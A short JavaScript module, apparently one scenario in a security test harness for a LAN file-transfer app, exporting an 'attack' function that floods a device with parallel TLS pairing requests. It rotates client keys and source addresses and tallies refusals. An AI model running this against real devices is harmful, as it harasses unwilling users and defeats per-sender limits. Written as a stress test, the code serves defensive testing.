// Wants to pair, again and again, with a device whose user does not.

import { connect } from "node:tls";
import { inParallel, Tally } from "../crowd.mjs";
import { frame } from "../frame.mjs";
import { stranger } from "../strangers.mjs";

const TIMEOUT_MS = 15_000;

const keys = Array.from({ length: 8 }, stranger);

const HELLO = frame({ t: "pair-hello", sid: "a".repeat(26), name: "anna", port: 25726 });

/** @param {{ host: string, port: number, count: number, width: number, from: string[] }} parameters */
export async function attack({ host, port, count, width, from }) {
  const tally = new Tally();
  await inParallel(count, width, async (n) => {
    const socket = connect({
      host,
      port,
      localAddress: from[n % from.length],
      servername: "",
      rejectUnauthorized: false,
      ALPNProtocols: ["lanxfer-pair/1"],
      ...keys[n % keys.length],
    });
    let met = "turned away";
    socket.on("secureConnect", () => socket.write(HELLO));
    socket.on("data", (data) => {
      met = data.includes('{"t":"pair-refuse"}') ? "refused" : "answered";
    });
    socket.on("error", () => {});
    socket.setTimeout(TIMEOUT_MS, () => socket.destroy());
    socket.on("end", () => socket.end());
    await new Promise((resolve) => socket.once("close", resolve));
    tally.add(met);
  });
  return { attempts: count, counts: tally.counts };
}
